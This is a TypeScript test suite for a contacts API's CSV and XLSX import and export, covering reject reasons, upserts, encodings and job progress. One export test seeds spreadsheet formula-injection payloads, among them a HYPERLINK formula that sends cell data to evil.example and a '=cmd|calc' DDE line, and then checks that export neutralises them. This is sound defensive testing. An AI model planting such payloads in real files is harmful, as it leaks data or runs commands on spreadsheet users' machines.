/**
 * Import and export through the API (AU-8): every reason a row is rejected, each with its row
 * number; upserts by external id and by phone; Windows-1251, UTF-16 and XLSX files; a job's
 * progress; the rejects listed a page at a time; an export that imports back unchanged, with
 * formula injection neutralised in CSV and XLSX.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { createTestApi, type TestApi } from '../helpers/api.ts';
import { waitFor } from '../helpers/db.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

async function upload(
  api: TestApi,
  body: Buffer | string,
  query = 'start=true',
  opts: { type?: string; key?: string } = {},
) {
  const r = await api.call(
    'POST',
    `/api/v1/imports?${query}`,
    typeof body === 'string' ? Buffer.from(body) : body,
    {
      headers: { 'content-type': opts.type ?? 'text/csv' },
      ...(opts.key ? { key: opts.key } : {}),
    },
  );
  assert.equal(r.status, 201, r.text);
  return r.body as { job: { id: number; state: string }; preview: any };
}

async function finished(api: TestApi, id: number, key?: string) {
  return waitFor(
    async () => {
      const r = await api.call('GET', `/api/v1/imports/${id}`, undefined, key ? { key } : {});
      assert.equal(r.status, 200, r.text);
      return r.body.state === 'done' || r.body.state === 'failed' ? r.body : undefined;
    },
    60_000,
    `import ${id}`,
  );
}

async function importFile(api: TestApi, body: Buffer | string, query = 'start=true', opts = {}) {
  const { job } = await upload(api, body, query, opts);
  const done = await finished(api, job.id, (opts as { key?: string }).key);
  assert.equal(done.state, 'done', JSON.stringify(done));
  return done;
}

async function allContacts(api: TestApi, key?: string) {
  const r = await api.call('GET', '/api/v1/contacts?limit=1000', undefined, key ? { key } : {});
  assert.equal(r.status, 200, r.text);
  return r.body.items as any[];
}

const HEADER =
  'Лицевой счёт;ФИО;Телефон;E-mail;Дата рождения;Пол;Часовой пояс;Telegram chat id;№ участка;Долг;Улица';

test('every reject reason, with its row number, through the API; the valid rows around them are all stored', async () => {
  const api = await createTestApi();
  const rows = [
    'ЛС-1;Иванов Иван Иванович;8 (912) 345-67-01;ivanov@example.ru;31.12.1980;М;Asia/Yekaterinburg;1001;1;1 000,50;Лесная', // 2 ok
    'ЛС-2;Петров;8 (912) 34;;;;;;;;', // 3 invalid_phone
    'ЛС-3;Сидоров;7.91E+10;;;;;;;;', // 4 spoiled_number
    'ЛС-4;Кузнецов;;ivan@;;;;;;;', // 5 invalid_email
    'ЛС-5;Попов;;;;;;@ivan;;;', // 6 invalid_telegram_chat_id
    'ЛС-6;Васильев;;;;;МСК+2;;;;', // 7 invalid_time_zone
    'ЛС-7;Смирнов;;;;не указан;;;;;', // 8 invalid_gender
    'ЛС-8;Морозов;;;31.02.1980;;;;;;', // 9 invalid_date
    'ЛС-9;Волков;;;01.01.2100;;;;;;', // 10 implausible_birth_date
    'ЛС-10;Зайцев;;;;;;;5;много;', // 11 invalid_amount
    ';Соколов;8 (912) 345-67-02;;;;;;;150;', // 12 amount_without_object
    `ЛС-11;Лебедев;;;;;;;${'1'.repeat(101)};;`, // 13 too_long
    ';Безымянный;;;;;;;;;Садовая', // 14 no_identifier
    'ЛС-12;Козлов;8 (912) 345-67-03;;;;;;;;;лишнее', // 15 past_last_column
    'ЛС-13;Новиков\u0000;8 (912) 345-67-04;;;;;;;;', // 16 not_stored (PostgreSQL cannot store U+0000)
    'ЛС-14;Лес\uFFFDников;8 (912) 345-67-05;;;;;;;;', // 17 unreadable_characters
    '', // 18 empty: skipped, not rejected
    'ЛС-15;Орлов;8 (912) 345-67-06;;;;;;;;', // 19 ok
    'ЛС-16;"Незакрытая кавычка;8 (912) 345-67-07', // 20 broken_row (swallows the rest)
  ];
  const done = await importFile(
    api,
    `${HEADER}\r\n${rows.join('\r\n')}\r\n`,
    'start=true&filename=rejects.csv',
  );
  assert.equal(done.processed, 18, 'the empty row is not counted');
  assert.equal(done.created, 2);
  assert.equal(done.rejected, 16);
  assert.deepEqual(done.rejectedByReason, {
    invalid_phone: 1,
    spoiled_number: 1,
    invalid_email: 1,
    invalid_telegram_chat_id: 1,
    invalid_time_zone: 1,
    invalid_gender: 1,
    invalid_date: 1,
    implausible_birth_date: 1,
    invalid_amount: 1,
    amount_without_object: 1,
    too_long: 1,
    no_identifier: 2, // row 14, and the broken row 20, whose cells are lost with the quote
    past_last_column: 1,
    not_stored: 1,
    unreadable_characters: 1,
    broken_row: 1,
  });
  assert.equal(done.fileName, 'rejects.csv');
  assert.equal(done.encoding, 'utf-8');
  assert.equal(done.delimiter, ';');

  // Every rejected row, in row order, with the column, header and value as in the file.
  const listed: any[] = [];
  let after = 0;
  for (;;) {
    const page = await api.call('GET', `/api/v1/imports/${done.id}/rejects?limit=5&after=${after}`);
    assert.equal(page.status, 200, page.text);
    listed.push(...page.body.items);
    if (page.body.nextCursor === null) break;
    after = page.body.nextCursor;
  }
  assert.deepEqual(
    listed.map((r) => [r.row, r.reasons.join('+')]),
    [
      [3, 'invalid_phone'],
      [4, 'spoiled_number'],
      [5, 'invalid_email'],
      [6, 'invalid_telegram_chat_id'],
      [7, 'invalid_time_zone'],
      [8, 'invalid_gender'],
      [9, 'invalid_date'],
      [10, 'implausible_birth_date'],
      [11, 'invalid_amount'],
      [12, 'amount_without_object'],
      [13, 'too_long'],
      [14, 'no_identifier'],
      [15, 'past_last_column'],
      [16, 'not_stored'],
      [17, 'unreadable_characters'],
      [20, 'broken_row+no_identifier'],
    ],
  );
  assert.deepEqual(listed[0].problems, [
    {
      column: 'phone',
      header: 'Телефон',
      value: '8 (912) 34',
      message: '`8 (912) 34` is not a phone number',
      reason: 'invalid_phone',
    },
  ]);
  assert.match(listed[13].problems[0].message, /the database refused the row/);
  const spoiled = await api.call('GET', `/api/v1/imports/${done.id}/rejects?reason=spoiled_number`);
  assert.deepEqual(
    spoiled.body.items.map((r: any) => [r.row, r.problems[0].value]),
    [[4, '7.91E+10']],
  );

  // The valid rows, including those in the batch the database refused a row of.
  const stored = await allContacts(api);
  assert.deepEqual(stored.map((c) => c.externalId).sort(), ['ЛС-1', 'ЛС-15']);
  const ivanov = stored.find((c) => c.externalId === 'ЛС-1');
  assert.deepEqual(
    [
      ivanov.lastName,
      ivanov.firstName,
      ivanov.middleName,
      ivanov.phone,
      ivanov.email,
      ivanov.birthDate,
      ivanov.gender,
    ],
    ['Иванов', 'Иван', 'Иванович', '+79123456701', 'ivanov@example.ru', '1980-12-31', 'male'],
  );
  assert.deepEqual(
    [ivanov.timeZone, ivanov.telegramChatId, ivanov.attributes],
    ['Asia/Yekaterinburg', '1001', { ulitsa: 'Лесная' }],
  );
  const objects = await api.call('GET', `/api/v1/contacts/${ivanov.id}/objects`);
  assert.deepEqual(
    objects.body.items.map((o: any) => [o.kind, o.number, o.debtKopecks]),
    [
      ['account', 'ЛС-1', 100050],
      ['plot', '1', 0],
    ],
  );
  // The custom column became a defined attribute, so filters can use it.
  const attributes = await api.call('GET', '/api/v1/attributes');
  assert.ok(
    attributes.body.items.some((a: any) => a.name === 'ulitsa' && a.type === 'text'),
    attributes.text,
  );
});

test('upsert: by external id, else by phone; an empty cell keeps what is stored; attributes merge', async () => {
  const api = await createTestApi();
  const manual = await api.call('POST', '/api/v1/contacts', {
    firstName: 'Ручной',
    phone: '+79123450009',
    attributes: { note: 'из CRM' },
  });
  assert.equal(manual.status, 201);
  const first = await importFile(
    api,
    'Код клиента;Фамилия;Имя;Телефон;Участок;Долг;Офис\r\n' +
      'K-1;Иванов;Иван;89123450001;12;100;Центр\r\n' +
      'K-2;Петров;Пётр;89123450002;13;200;Центр\r\n' +
      ';Сидоров;;89123450009;14;;Север\r\n' + // the manual contact, by phone
      'K-1;;Иванушка;;;;\r\n', // the same file names K-1 again: an update
  );
  assert.deepEqual([first.created, first.updated, first.rejected], [2, 2, 0]);
  let contacts = await allContacts(api);
  assert.equal(contacts.length, 3);
  const byExt = (id: string | null, list = contacts) => list.find((c) => c.externalId === id);
  assert.equal(byExt('K-1').firstName, 'Иванушка');
  assert.equal(byExt('K-1').lastName, 'Иванов', 'an empty cell does not erase');
  const m = contacts.find((c) => c.id === manual.body.id);
  assert.deepEqual(
    [m.lastName, m.firstName, m.attributes],
    [
      'Сидоров',
      'Ручной',
      {
        note: 'из CRM',
        ofis: 'Север',
      },
    ],
  );

  // A second file: K-2 moves to a new phone, plot 13 changes hands and its debt; nothing is duplicated.
  const second = await importFile(
    api,
    'Код клиента;Телефон;Участок;Долг\r\nK-2;+7 912 345-00-22;13;0\r\nK-3;89123450003;12;50,25\r\n',
  );
  assert.deepEqual([second.created, second.updated, second.objects], [1, 1, 2]);
  contacts = await allContacts(api);
  assert.equal(contacts.length, 4);
  assert.equal(byExt('K-2', contacts).phone, '+79123450022');
  const plots = async (id: number) =>
    (await api.call('GET', `/api/v1/contacts/${id}/objects`)).body.items.map((o: any) => [
      o.number,
      o.debtKopecks,
    ]);
  assert.deepEqual(await plots(byExt('K-1', contacts).id), [], 'plot 12 now belongs to K-3');
  assert.deepEqual(await plots(byExt('K-3', contacts).id), [['12', 5025]]);
  assert.deepEqual(await plots(byExt('K-2', contacts).id), [['13', 0]]);
  assert.deepEqual(await plots(manual.body.id), [['14', 0]]);
});

test('Windows-1251, UTF-16 LE and BE with BOM, tab and comma: detected, and the names read right', async () => {
  const api = await createTestApi();
  const text = (d: string) =>
    ['Фамилия', 'Имя', 'Отчество', 'Телефон'].join(d) +
    '\r\n' +
    ['Ёлкина', 'Юлия', 'Щукиновна', '89123451111'].join(d) +
    '\r\n';
  const files: [string, Buffer, string, string][] = [
    ['cp1251', iconv.encode(text(';'), 'win1251'), 'windows-1251', ';'],
    [
      'utf16le',
      Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text('\t'), 'utf-16le')]),
      'utf-16le',
      '\t',
    ],
    [
      'utf16be',
      Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text(','), 'utf-16be')]),
      'utf-16be',
      ',',
    ],
    ['utf8bom', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text(';'))]), 'utf-8', ';'],
  ];
  for (const [name, bytes, encoding, delimiter] of files) {
    const { job, preview } = await upload(api, bytes, `filename=${name}.csv`, {
      type: 'application/octet-stream',
    });
    assert.equal(job.state, 'uploaded');
    assert.deepEqual([preview.encoding, preview.delimiter], [encoding, delimiter], name);
    assert.deepEqual(preview.headers, ['Фамилия', 'Имя', 'Отчество', 'Телефон'], name);
    assert.deepEqual(preview.suggested.Телефон, ['phone']);
    assert.equal(preview.rows[0].cells.Фамилия, 'Ёлкина', name);
    const started = await api.call('POST', `/api/v1/imports/${job.id}/start`, {});
    assert.equal(started.status, 202, started.text);
    const done = await finished(api, job.id);
    assert.equal(done.state, 'done', JSON.stringify(done));
    assert.equal(done.encoding, encoding);
    assert.equal(done.created + done.updated, 1, name);
    const again = await api.call('POST', `/api/v1/imports/${job.id}/start`, {});
    assert.equal(again.status, 409, 'a job starts once');
  }
  const [c] = await allContacts(api);
  assert.deepEqual(
    [c.lastName, c.firstName, c.middleName, c.phone],
    ['Ёлкина', 'Юлия', 'Щукиновна', '+79123451111'],
  );
});

test('XLSX: typed cells — a numeric phone, a date cell, amounts as numbers — and a 16-digit number refused', async () => {
  const api = await createTestApi();
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Должники');
  ws.addRow(['№ п/п', 'ФИО', 'Моб. телефон', 'Дата рождения', 'Лицевой счёт', 'Начислено', 'Долг']);
  ws.addRow([1, 'Иванова Мария Петровна', 79123452222, new Date(Date.UTC(1975, 4, 9)), 'А-100', 1500.5, 320]);
  ws.addRow([2, 'Кузьмин Олег', 1234567890123456, null, 'А-101', 0, 0]);
  const bytes = Buffer.from(await wb.xlsx.writeBuffer());
  const { job, preview } = await upload(api, bytes, 'filename=debts.xlsx', { type: XLSX });
  assert.equal(preview.format, 'xlsx');
  assert.deepEqual(preview.suggested['№ п/п'], []);
  // The operator's own mapping: the account is the external id too.
  const mapping = {
    ФИО: 'fullName',
    'Моб. телефон': 'phone',
    'Дата рождения': 'birthDate',
    'Лицевой счёт': ['object.account', 'externalId'],
    Начислено: 'object.charges',
    Долг: 'object.debt',
  };
  const tried = await api.call(
    'GET',
    `/api/v1/imports/${job.id}/preview?mapping=${encodeURIComponent(JSON.stringify(mapping))}`,
  );
  assert.equal(tried.status, 200, tried.text);
  assert.deepEqual(tried.body.mappingProblems, []);
  assert.equal(tried.body.outcomes[0].status, 'accepted');
  const bad = await api.call('POST', `/api/v1/imports/${job.id}/start`, { mapping: { Нет: 'phone' } });
  assert.equal(bad.status, 400);
  assert.match(bad.body.error.message, /`Нет` is not a column of the file/);
  const started = await api.call('POST', `/api/v1/imports/${job.id}/start`, { mapping });
  assert.equal(started.status, 202, started.text);
  const done = await finished(api, job.id);
  assert.deepEqual(
    [done.state, done.created, done.rejected, done.rejectedByReason],
    ['done', 1, 1, { spoiled_number: 1 }],
  );
  const [c] = await allContacts(api);
  assert.deepEqual(
    [c.externalId, c.lastName, c.phone, c.birthDate],
    ['А-100', 'Иванова', '+79123452222', '1975-05-09'],
  );
  const objects = await api.call('GET', `/api/v1/contacts/${c.id}/objects`);
  assert.deepEqual(
    objects.body.items.map((o: any) => [o.kind, o.number, o.chargesKopecks, o.debtKopecks]),
    [['account', 'А-100', 150050, 32000]],
  );
  const rejects = await api.call('GET', `/api/v1/imports/${done.id}/rejects`);
  assert.deepEqual(rejects.body.items[0].row, 3);
});

test('a job reports its progress while it runs, and its counters add up at the end', async () => {
  const api = await createTestApi();
  const n = 4500;
  let csv = 'Телефон;Имя;Долг;Участок\r\n';
  for (let i = 0; i < n; i++) csv += `8912${String(i).padStart(7, '0')};Житель ${i};${i % 100};${i}\r\n`;
  const { job } = await upload(api, csv, 'start=true');
  assert.equal(job.state, 'running');
  const seen: { processed: number; progress: number }[] = [];
  const done = await waitFor(async () => {
    const r = await api.call('GET', `/api/v1/imports/${job.id}`);
    seen.push({ processed: r.body.processed, progress: r.body.progress });
    return r.body.state === 'done' ? r.body : undefined;
  }, 120_000);
  assert.deepEqual([done.processed, done.created, done.objects, done.progress], [n, n, n, 1]);
  assert.equal(done.bytesRead, done.sizeBytes);
  assert.ok(done.startedAt && done.finishedAt);
  for (let i = 1; i < seen.length; i++)
    assert.ok(seen[i]!.processed >= seen[i - 1]!.processed, 'progress goes forward');
  assert.ok(
    seen.every((s) => s.processed % 1000 === 0 || s.processed === n),
    'counted a committed batch at a time',
  );
  const list = await api.call('GET', '/api/v1/imports');
  assert.equal(list.body.items[0].id, job.id);
});

test('export round trip: CSV and XLSX import back into another organisation unchanged; formulas neutralised', async () => {
  const api = await createTestApi();
  const add = async (body: Record<string, unknown>) => {
    const r = await api.call('POST', '/api/v1/contacts', body);
    assert.equal(r.status, 201, r.text);
    return r.body;
  };
  const a = await add({
    externalId: 'EXT-1',
    lastName: '=HYPERLINK("http://evil.example/?"&A1)',
    firstName: '@SUM(A1:A9)',
    middleName: '-2+3',
    phone: '+79123453333',
    email: 'a@example.ru',
    telegramChatId: '-1001234',
    timeZone: 'Asia/Omsk',
    gender: 'female',
    birthDate: '1980-02-29',
    attributes: { note: '\t=cmd|calc', rating: 5 },
  });
  await api.call('POST', `/api/v1/contacts/${a.id}/objects`, {
    kind: 'plot',
    number: '7',
    debtKopecks: -12345,
  });
  await add({
    externalId: 'EXT-2',
    lastName: 'Обычный; с точкой с запятой "и кавычками"',
    phone: '+79123454444',
  });
  await add({ externalId: 'EXT-3', firstName: '+Плюс', email: 'c@example.ru' });

  const csv = await api.call('GET', '/api/v1/contacts/export?format=csv');
  assert.equal(csv.status, 200, csv.text);
  assert.match(String(csv.headers['content-type']), /^text\/csv/);
  assert.match(
    String(csv.headers['content-disposition']),
    /attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"/,
  );
  // Every cell that a spreadsheet would run begins with ' — and no cell begins with = + - @ tab CR.
  const cells = csv.text
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter(Boolean)
    .flatMap((line) => line.split(';'));
  for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+@\t\r]|^-(?!\d+,\d\d$)/, cell);
  assert.ok(
    csv.text.includes(`'=HYPERLINK(""http://evil.example/?""&A1)`) ||
      csv.text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1)"`),
  );
  assert.ok(csv.text.includes(";'@SUM(A1:A9);'-2+3;'+79123453333;"), csv.text);
  assert.ok(csv.text.includes("'\t=cmd|calc"));
  assert.ok(csv.text.includes('"Обычный; с точкой с запятой ""и кавычками"""'));

  const xlsx = await api.app.inject({
    method: 'GET',
    url: '/api/v1/contacts/export?format=xlsx',
    headers: { authorization: `Bearer ${api.org.key}` },
  });
  assert.equal(xlsx.statusCode, 200);
  assert.equal(xlsx.headers['content-type'], XLSX);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const header = (ws.getRow(1).values as unknown[]).slice(1);
  const row2 = (ws.getRow(2).values as unknown[]).slice(1);
  assert.equal(row2[header.indexOf('Фамилия')], `'=HYPERLINK("http://evil.example/?"&A1)`);
  assert.equal(row2[header.indexOf('Телефон')], "'+79123453333");
  assert.equal(row2[header.indexOf('Долг')], -123.45, 'amounts are numbers in XLSX');

  const pick = (c: any) => {
    const { id: _, createdAt: __, updatedAt: ___, ...rest } = c;
    return rest;
  };
  const original = (await allContacts(api)).map(pick);
  for (const [format, bytes, type] of [
    ['csv', Buffer.from(csv.text), 'text/csv'],
    ['xlsx', xlsx.rawPayload, XLSX],
  ] as const) {
    const other = await api.addOrg(`Копия ${format}`);
    const done = await importFile(api, bytes, `start=true&filename=export.${format}`, {
      type,
      key: other.key,
    });
    assert.deepEqual([done.created, done.rejected], [3, 0], JSON.stringify(done));
    const copy = (await allContacts(api, other.key)).map(pick);
    // Two things do not survive a file: CSV has only text (the rating comes back as '5'), and the
    // import trims each cell (the tab before the note's formula).
    const expected = structuredClone(original);
    expected[0].attributes = { note: '=cmd|calc', rating: format === 'csv' ? '5' : 5 };
    assert.deepEqual(copy, expected, format);
    const plot = await api.call(
      'GET',
      `/api/v1/contacts/${(await allContacts(api, other.key))[0].id}/objects`,
      undefined,
      { key: other.key },
    );
    assert.deepEqual(
      plot.body.items.map((o: any) => [o.kind, o.number, o.debtKopecks]),
      [['plot', '7', -12345]],
    );
  }
});

test('export of a list, and by a filter; uploads without a file or with a bad mapping are refused clearly', async () => {
  const api = await createTestApi();
  const ids: number[] = [];
  for (const [i, g] of [
    [1, 'male'],
    [2, 'female'],
    [3, 'female'],
  ] as const) {
    const r = await api.call('POST', '/api/v1/contacts', {
      externalId: `X${i}`,
      gender: g,
      phone: `+7912345000${i}`,
    });
    ids.push(r.body.id);
  }
  const list = await api.call('POST', '/api/v1/lists', { name: 'Двое' });
  await api.call('POST', `/api/v1/lists/${list.body.id}/members`, { ids: [ids[0], ids[1]] });
  const lines = (text: string) =>
    text
      .trim()
      .split('\r\n')
      .slice(1)
      .map((l) => l.split(';')[0]);
  const byList = await api.call('GET', `/api/v1/contacts/export?listId=${list.body.id}`);
  assert.deepEqual(lines(byList.text), ['X1', 'X2']);
  const byFilter = await api.call('POST', '/api/v1/contacts/export', {
    listId: list.body.id,
    filter: { type: 'gender', value: 'female' },
  });
  assert.equal(byFilter.status, 200, byFilter.text);
  assert.deepEqual(lines(byFilter.text), ['X2']);
  const noList = await api.call('GET', '/api/v1/contacts/export?listId=999999');
  assert.equal(noList.status, 400);
  assert.match(noList.body.error.message, /listId: no list of contacts 999999/);

  const empty = await api.call('POST', '/api/v1/imports');
  assert.equal(empty.status, 400);
  assert.equal(empty.body.error.code, 'no_file');
  const unusable = await api.call(
    'POST',
    '/api/v1/imports?start=true',
    Buffer.from('Имя;Город\r\nИван;Омск\r\n'),
    {
      headers: { 'content-type': 'text/csv' },
    },
  );
  assert.equal(unusable.status, 400);
  assert.match(unusable.body.error.message, /no column is mapped to phone, email or externalId/);
  const viewer = await api.call('POST', '/api/v1/keys', { name: 'v', role: 'viewer' });
  const forbidden = await api.call('POST', '/api/v1/imports', Buffer.from('Телефон\r\n89123450001\r\n'), {
    key: viewer.body.secret,
    headers: { 'content-type': 'text/csv' },
  });
  assert.equal(forbidden.status, 403);
});
